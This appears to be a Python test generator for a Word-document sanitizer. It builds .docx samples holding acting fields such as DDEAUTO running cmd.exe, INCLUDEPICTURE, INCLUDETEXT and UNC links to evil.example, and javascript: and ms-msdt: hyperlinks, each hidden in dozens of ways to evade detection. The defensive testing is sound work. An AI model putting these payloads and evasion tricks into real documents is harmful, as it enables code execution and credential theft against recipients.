"""Every field that acts, in every way of hiding its instruction (ECMA-376 part 1, 17.16).

The instruction is text that may be cut over runs, paragraphs and nested fields; Word puts it together again.
"""
from . import word
from .package import escaped
from .sample import Sample, slug
from .word import paragraph, text

# field name -> instruction; {m} is the marker
KINDS = {
	'DDE': 'DDE cmd "/c {m}"',
	'DDEAUTO': 'DDEAUTO "C:\\\\Windows\\\\System32\\\\cmd.exe" "/k {m}"',
	'INCLUDEPICTURE': 'INCLUDEPICTURE "http://evil.example/{m}.png" \\d',
	'INCLUDETEXT': 'INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\{m}.docx"',
	'INCLUDE': 'INCLUDE "http://evil.example/{m}"',
	'IMPORT': 'IMPORT "http://evil.example/{m}.wmf"',
	'LINK': 'LINK Excel.Sheet.12 "http://evil.example/{m}.xlsx" "S!A1" \\a \\f 5 \\h',
	'EMBED': 'EMBED Package {m}',
	'DATABASE': 'DATABASE \\d "C:\\\\{m}.mdb" \\c "DSN=x" \\s "SELECT 1"',
	'MACROBUTTON': 'MACROBUTTON {m} click',
	'GOTOBUTTON': 'GOTOBUTTON {m} click',
	'HYPERLINK-unc': 'HYPERLINK "\\\\\\\\evil.example\\\\{m}"',
	'HYPERLINK-js': 'HYPERLINK "javascript:{m}"',
	'HYPERLINK-file': 'HYPERLINK "file:///c:/{m}.exe" \\o "tip"',
	'HYPERLINK-ms': 'HYPERLINK ms-msdt:/id/{m}',
	'RD': 'RD "\\\\\\\\evil.example\\\\{m}.docx"',
	'AUTOTEXT': 'AUTOTEXT {m}',
	'AUTOTEXTLIST': 'AUTOTEXTLIST "x" \\s {m} \\t "t"',
	'GLOSSARY': 'GLOSSARY {m}',
	'PRINT': 'PRINT \\p page "{m}"',
	'ASK': 'ASK {m} "Password?"',
	'FILLIN': 'FILLIN "{m}"',
	'SET': 'SET x "{m}"',
	'TEMPLATE': 'TEMPLATE \\p {m}',
	'INFO': 'INFO Comments "{m}"',
	'QUOTE': 'QUOTE "{m}"',
	'ADDIN': 'ADDIN {m}',
	'CONTROL': 'CONTROL Forms.CommandButton.1 \\s {m}',
	'HTMLCONTROL': 'HTMLCONTROL {m}',
	'DATA': 'DATA "C:\\\\{m}.mdb"',
	'unknown': 'SEKISHOFIELD {m}',
}


def char(kind, more=''):
	return '<w:r><w:fldChar w:fldCharType="%s"%s/></w:r>' % (kind, more)


def instruction(words, element='instrText'):
	return '<w:r><w:%s xml:space="preserve">%s</w:%s></w:r>' % (element, words, element)


def whole(pieces, result='結果', element='instrText', begin=''):
	"""A complex field whose instruction comes in pieces, each in its own run."""
	return (char('begin', begin) + ''.join(instruction(escaped(piece), element) for piece in pieces) + char('separate') + text(result) +
		char('end'))


def cut(words, count):
	size = max(1, -(-len(words) // count))
	return [words[at:at + size] for at in range(0, len(words), size)]


def entities(words):
	return ''.join('&#%s;' % (ord(c) if n % 2 else 'x%x' % ord(c)) for n, c in enumerate(words))


def mixed(words):
	return ''.join(c.upper() if n % 2 else c.lower() for n, c in enumerate(words.split(' ')[0])) + words[len(words.split(' ')[0]):]


def simple(words):
	return '<w:fldSimple w:instr="%s">%s</w:fldSimple>' % (escaped(words), text('結果'))


def nested(outer, words):
	return char('begin') + instruction(' %s ' % outer) + whole([words]) + instruction(' ') + char('separate') + text('外') + char('end')


def codes(words):
	"""A field whose name is put together by QUOTE of character numbers."""
	name, _, rest = words.partition(' ')
	quote = whole(['QUOTE ' + ' '.join(str(ord(c)) for c in name)], name)
	return char('begin') + quote + instruction(escaped(' ' + rest)) + char('separate') + text('結果') + char('end')


def wrapped(element, inner, attributes=''):
	return '<w:%s%s>%s</w:%s>' % (element, attributes, inner, element)


CHANGE = ' w:id="90" w:author="x" w:date="2024-04-01T00:00:00Z"'

# way -> words -> inner XML of a paragraph
INLINE = {
	'simple': simple,
	'simple-entities': lambda w: '<w:fldSimple w:instr="%s">%s</w:fldSimple>' % (entities(w), text('結果')),
	'simple-newline': lambda w: simple(w).replace('w:instr="', 'w:instr="&#10;&#9;'),
	'simple-nested': lambda w: '<w:fldSimple w:instr=" PAGE ">%s</w:fldSimple>' % simple(w),
	'simple-no-result': lambda w: '<w:fldSimple w:instr="%s"/>' % escaped(w),
	'simple-dirty': lambda w: simple(w).replace('<w:fldSimple', '<w:fldSimple w:dirty="true" w:fldLock="0"'),
	'run': lambda w: whole([w]),
	'one-run': lambda w: '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>%s</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>結果</w:t>'
		'<w:fldChar w:fldCharType="end"/></w:r>' % escaped(w),
	'two-runs': lambda w: whole(cut(w, 2)),
	'three-runs': lambda w: whole(cut(w, 3)),
	'seven-runs': lambda w: whole(cut(w, 7)),
	'name-split': lambda w: whole([w[:1], w[1:2], w[2:]]),
	'characters': lambda w: whole(list(w)),
	'characters-formatted': lambda w: char('begin') + ''.join('<w:r><w:rPr><w:b w:val="%d"/></w:rPr><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
		% (n % 2, escaped(c)) for n, c in enumerate(w)) + char('separate') + text('結果') + char('end'),
	'characters-proofed': lambda w: char('begin') + '<w:proofErr w:type="spellStart"/>'.join(instruction(escaped(c)) for c in w) + char('separate') +
		text('結果') + char('end'),
	'characters-bookmarks': lambda w: char('begin') + ''.join('<w:bookmarkStart w:id="%d" w:name="b%d"/>%s<w:bookmarkEnd w:id="%d"/>'
		% (100 + n, n, instruction(escaped(c)), 100 + n) for n, c in enumerate(w)) + char('separate') + text('結果') + char('end'),
	'many-in-one-run': lambda w: char('begin') + '<w:r>%s</w:r>' % ''.join('<w:instrText xml:space="preserve">%s</w:instrText>' % escaped(c) for c in w) +
		char('separate') + text('結果') + char('end'),
	'in-if': lambda w: nested('IF 1 = 1', w),
	'in-quote': lambda w: nested('QUOTE', w),
	'in-hyperlink-field': lambda w: nested('HYPERLINK', w),
	'in-page': lambda w: nested('PAGE', w),
	'in-result': lambda w: char('begin') + instruction(' PAGE ') + char('separate') + whole([w]) + char('end'),
	'in-toc-result': lambda w: char('begin') + instruction(' TOC \\o "1-3" ') + char('separate') + text('目次') + whole(cut(w, 3)) + char('end'),
	'quote-codes': codes,
	'after-inner': lambda w: char('begin') + whole([' PAGE ']) + instruction(escaped(w)) + char('separate') + text('結果') + char('end'),
	'ins': lambda w: wrapped('ins', whole(cut(w, 2)), CHANGE),
	'del': lambda w: wrapped('del', whole(cut(w, 2), element='delInstrText').replace('<w:t ', '<w:delText ').replace('</w:t>', '</w:delText>'), CHANGE),
	'ins-half': lambda w: char('begin') + wrapped('ins', instruction(escaped(w[:3])), CHANGE) + instruction(escaped(w[3:])) + char('separate') +
		text('結果') + char('end'),
	'del-half': lambda w: char('begin') + wrapped('del', instruction('PAGE', 'delInstrText'), CHANGE) + instruction(escaped(w)) + char('separate') +
		text('結果') + char('end'),
	'move': lambda w: wrapped('moveTo', whole(cut(w, 2)), CHANGE),
	'sdt': lambda w: '<w:sdt><w:sdtPr><w:id w:val="91"/></w:sdtPr><w:sdtContent>%s</w:sdtContent></w:sdt>' % whole(cut(w, 2)),
	'sdt-half': lambda w: char('begin') + '<w:sdt><w:sdtPr><w:id w:val="92"/></w:sdtPr><w:sdtContent>%s</w:sdtContent></w:sdt>' % instruction(escaped(w)) +
		char('separate') + text('結果') + char('end'),
	'hyperlink': lambda w: '<w:hyperlink w:anchor="top">%s</w:hyperlink>' % whole(cut(w, 2)),
	'smart-tag': lambda w: '<w:smartTag w:uri="urn:x" w:element="y">%s</w:smartTag>' % whole(cut(w, 2)),
	'custom-xml': lambda w: '<w:customXml w:uri="urn:x" w:element="y">%s</w:customXml>' % whole(cut(w, 2)),
	'bdo': lambda w: '<w:bdo w:val="ltr">%s</w:bdo>' % whole(cut(w, 2)),
	'ruby': lambda w: '<w:r><w:ruby><w:rubyPr><w:rubyAlign w:val="center"/><w:hps w:val="10"/><w:hpsRaise w:val="18"/><w:hpsBaseText w:val="21"/><w:lid w:val="ja-JP"/>'
		'</w:rubyPr><w:rt>%s</w:rt><w:rubyBase>%s</w:rubyBase></w:ruby></w:r>' % (whole([w]), text('字')),
	'math': lambda w: '<m:oMath><m:r><m:t>x</m:t></m:r>%s</m:oMath>' % whole([w]),
	'entities': lambda w: char('begin') + instruction(entities(w)) + char('separate') + text('結果') + char('end'),
	'cdata': lambda w: char('begin') + instruction('<![CDATA[%s]]>' % w) + char('separate') + text('結果') + char('end'),
	'cdata-pieces': lambda w: char('begin') + instruction(''.join('<![CDATA[%s]]>' % c for c in w)) + char('separate') + text('結果') + char('end'),
	'xml-comments': lambda w: char('begin') + instruction('<!-- x -->'.join(escaped(c) for c in w)) + char('separate') + text('結果') + char('end'),
	'processing-instructions': lambda w: char('begin') + instruction('<?x y?>'.join(escaped(c) for c in w)) + char('separate') + text('結果') + char('end'),
	'case': lambda w: whole([mixed(w)]),
	'lower': lambda w: whole([w.split(' ')[0].lower() + w[len(w.split(' ')[0]):]]),
	'tabs': lambda w: whole(['\t' + w.replace(' ', '\t', 1)]),
	'no-break-space': lambda w: whole(['\u00a0' + w.replace(' ', '\u00a0', 1)]),
	'blanks': lambda w: whole(['      ' + w.replace(' ', '     ', 1)]),
	'ideographic-space': lambda w: whole(['\u3000' + w]),
	'newlines': lambda w: whole(['\n\r\n' + w.replace(' ', '\n', 1)]),
	'zero-width': lambda w: whole(['\u200b' + w[:2] + '\u200b' + w[2:]]),
	'quoted-name': lambda w: whole(['"%s" %s' % tuple((w + ' ').split(' ', 1))]),
	'w-tab-between': lambda w: char('begin') + instruction(escaped(w.split(' ')[0])) + '<w:r><w:tab/></w:r>' + instruction(escaped(w[len(w.split(' ')[0]):])) +
		char('separate') + text('結果') + char('end'),
	'w-t-instruction': lambda w: char('begin') + text(escaped(w)) + instruction(' ') + char('separate') + text('結果') + char('end'),
	'soft-hyphen': lambda w: char('begin') + instruction(escaped(w[:2])) + '<w:r><w:softHyphen/></w:r>' + instruction(escaped(w[2:])) + char('separate') +
		text('結果') + char('end'),
	'no-separate': lambda w: char('begin') + instruction(escaped(w)) + char('end'),
	'no-end': lambda w: char('begin') + instruction(escaped(w)) + char('separate') + text('結果'),
	'no-begin': lambda w: instruction(escaped(w)) + char('separate') + text('結果') + char('end'),
	'bare': lambda w: instruction(escaped(w)),
	'two-begins': lambda w: char('begin') + char('begin') + instruction(escaped(w)) + char('separate') + text('結果') + char('end'),
	'two-separates': lambda w: char('begin') + instruction(' PAGE ') + char('separate') + char('separate') + instruction(escaped(w)) + char('separate') +
		text('結果') + char('end'),
	'after-separate': lambda w: char('begin') + instruction(' PAGE ') + char('separate') + instruction(escaped(w)) + text('結果') + char('end'),
	'dirty': lambda w: whole([w], begin=' w:dirty="true" w:fldLock="false"'),
	'field-data': lambda w: char('begin').replace('/></w:r>', '><w:fldData xml:space="preserve">AAAA</w:fldData></w:fldChar></w:r>') + instruction(escaped(w)) +
		char('separate') + text('結果') + char('end'),
	'harmless-prefix': lambda w: whole([' PAGE \\* MERGEFORMAT ' + w]),
	'choice': lambda w: '<w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:fldChar w:fldCharType="begin"/></mc:Choice><mc:Fallback><w:fldChar w:fldCharType="begin"/>'
		'</mc:Fallback></mc:AlternateContent></w:r>' + instruction(escaped(w)) + char('separate') + text('結果') + char('end'),
	'choice-never': lambda w: '<mc:AlternateContent><mc:Choice Requires="nsx" xmlns:nsx="urn:never">%s</mc:Choice></mc:AlternateContent>' % whole([w]),
	'fallback': lambda w: '<mc:AlternateContent><mc:Choice Requires="w14">%s</mc:Choice><mc:Fallback>%s</mc:Fallback></mc:AlternateContent>' % (text('選択'), whole([w])),
	'other-prefix': lambda w: ('<x:r xmlns:x="%s"><x:fldChar x:fldCharType="begin"/></x:r><x:r xmlns:x="%s"><x:instrText>%s</x:instrText></x:r>'
		% (NAMESPACE, NAMESPACE, escaped(w))) + char('separate') + text('結果') + char('end'),
	'default-namespace': lambda w: char('begin') + '<r xmlns="%s"><instrText>%s</instrText></r>' % (NAMESPACE, escaped(w)) + char('separate') + text('結果') + char('end'),
	'strict-namespace': lambda w: char('begin') + '<s:r xmlns:s="%s"><s:instrText>%s</s:instrText></s:r>' % (STRICT, escaped(w)) + char('separate') +
		text('結果') + char('end'),
	'unknown-wrapper': lambda w: char('begin') + '<w:evil>%s</w:evil>' % instruction(escaped(w)) + char('separate') + text('結果') + char('end'),
}
NAMESPACE = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
STRICT = 'http://purl.oclc.org/ooxml/wordprocessingml/main'

# way -> words -> whole paragraphs
BLOCKS = {
	'two-paragraphs': lambda w: paragraph(char('begin') + instruction(escaped(w[:4]))) + paragraph(instruction(escaped(w[4:])) + char('separate') + text('結果') + char('end')),
	'many-paragraphs': lambda w: paragraph(char('begin')) + ''.join(paragraph(instruction(escaped(c))) for c in w) + paragraph(char('separate') + text('結果') + char('end')),
	'table': lambda w: '<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid><w:gridCol w:w="2000"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:tcW w:w="2000" w:type="dxa"/>'
		'</w:tcPr>%s</w:tc></w:tr></w:tbl>' % paragraph(whole(cut(w, 4))),
	'sdt-block': lambda w: '<w:sdt><w:sdtPr><w:id w:val="93"/></w:sdtPr><w:sdtContent>%s</w:sdtContent></w:sdt>' % paragraph(whole(cut(w, 2))),
	'custom-xml-block': lambda w: '<w:customXml w:uri="urn:x" w:element="y">%s</w:customXml>' % paragraph(whole(cut(w, 2))),
}

# way -> part and anchor in which the field stands, cut in two runs
PLACES = {
	'header': ('word/header1.xml', 'BODY'), 'footer': ('word/footer1.xml', 'BODY'), 'footnote': ('word/footnotes.xml', 'BODY'),
	'endnote': ('word/endnotes.xml', 'BODY'), 'comment': ('word/comments.xml', 'BODY'), 'cell': ('word/document.xml', 'CELL'),
	'textbox': ('word/document.xml', 'BOX'), 'vml-textbox': ('word/document.xml', 'VMLBOX'), 'content-control': ('word/document.xml', 'SDT'),
}


def placed(part, anchor, build, words):
	def make(mark, keep):
		p = word.package(keep)
		p.at(part, anchor, build(words.replace('{m}', mark)))
		return p.bytes()
	return make


def encoded(words, encoding, label):
	def make(mark, keep):
		p = word.package(keep)
		p.at('word/document.xml', 'BODY', paragraph(whole(cut(words.replace('{m}', mark), 2))))
		text_ = p.parts['word/document.xml'].replace('encoding="UTF-8"', 'encoding="%s"' % label)
		p.parts['word/document.xml'] = text_.encode(encoding)
		return p.bytes()
	return make


# harmless twins: the instruction stays
HARMLESS = {
	'PAGE': 'PAGE \\* MERGEFORMAT', 'NUMPAGES': 'NUMPAGES', 'DATE': 'DATE \\@ "yyyy年M月d日"', 'TIME': 'TIME \\@ "HH:mm"',
	'TOC': 'TOC \\o "1-3" \\h \\z \\u', 'REF': 'REF {k} \\h', 'PAGEREF': 'PAGEREF {k} \\h', 'SEQ': 'SEQ 図 \\* ARABIC',
	'STYLEREF': 'STYLEREF "heading 1"', 'formula': '= 1 + 2', 'EQ': 'EQ \\f(1,2)', 'SYMBOL': 'SYMBOL 183 \\f "Symbol" \\s 10',
	'MERGEFIELD': 'MERGEFIELD {k}', 'HYPERLINK': 'HYPERLINK "https://www.example.jp/{k}"', 'HYPERLINK-inner': 'HYPERLINK \\l "{k}"',
}


def samples():
	for kind, words in KINDS.items():
		for way, build in INLINE.items():
			inner = lambda w, build=build: paragraph(build(w))
			yield Sample('fields/%s-%s.docx' % (slug(kind), way), 'ooxml/fields', placed('word/document.xml', 'BODY', inner, words),
				gone=() if way == 'w-t-instruction' else None, findings=('field-removed',) if way in ('run', 'simple', 'two-runs', 'characters') else (),
				telling=(kind, way) in TELLING, checks=('fields',), quiet=way in QUIET or kind == 'unknown')
		for way, build in BLOCKS.items():
			yield Sample('fields/%s-%s.docx' % (slug(kind), way), 'ooxml/fields', placed('word/document.xml', 'BODY', build, words),
				checks=('fields',), telling=(kind, way) in TELLING, quiet=kind == 'unknown')
		for way, (part, anchor) in PLACES.items():
			build = lambda w: paragraph(whole(cut(w, 2)))
			yield Sample('fields/%s-in-%s.docx' % (slug(kind), way), 'ooxml/fields', placed(part, anchor, build, words), findings=('field-removed',),
				checks=('fields',), telling=(kind, way) in TELLING, quiet=kind == 'unknown')
	for kind in ('DDEAUTO', 'INCLUDEPICTURE', 'MACROBUTTON'):
		for label, encoding in (('UTF-16', 'utf-16'), ('UTF-16LE', 'utf-16-le'), ('UTF-16BE', 'utf-16-be'), ('Shift_JIS', 'cp932'), ('EUC-JP', 'euc-jp'), ('GBK', 'gbk'),
				('UTF-7', 'utf-7'), ('ISO-2022-JP', 'iso2022-jp'), ('UTF-32', 'utf-32'), ('ISO-10646-UCS-4', 'utf-32-be')):
			yield Sample('fields/%s-encoded-%s.docx' % (kind, label), 'ooxml/package/encodings', encoded(KINDS[kind], encoding, label),
				verdicts=('sanitized', 'blocked'), keep=() if not label.startswith('UTF-16') else None)
	for kind, words in HARMLESS.items():
		for way in ('run', 'simple', 'two-runs', 'characters'):
			def make(mark, keep, words=words, way=way):
				p = word.package(keep)
				return p.at('word/document.xml', 'BODY', paragraph(INLINE[way](words.replace('{k}', keep)))).bytes()
			yield Sample('harmless/field-%s-%s.docx' % (slug(kind), way), 'harmless', make, verdicts=('clean',), harmless=True,
				checks=('instruction:' + words.split(' ')[0],))


# a field that Word can't run: the marker must go, but no auditor need call it a field
QUIET = {'w-t-instruction', 'zero-width', 'soft-hyphen', 'bare', 'unknown-wrapper', 'no-begin', 'quoted-name', 'w-tab-between', 'after-inner',
	'harmless-prefix', 'ideographic-space', 'del-half'}

TELLING = {('DDEAUTO', 'characters'), ('DDE', 'simple'), ('INCLUDEPICTURE', 'header'), ('DDEAUTO', 'quote-codes'), ('MACROBUTTON', 'two-runs'),
	('LINK', 'in-if'), ('HYPERLINK-unc', 'run'), ('INCLUDETEXT', 'fallback')}
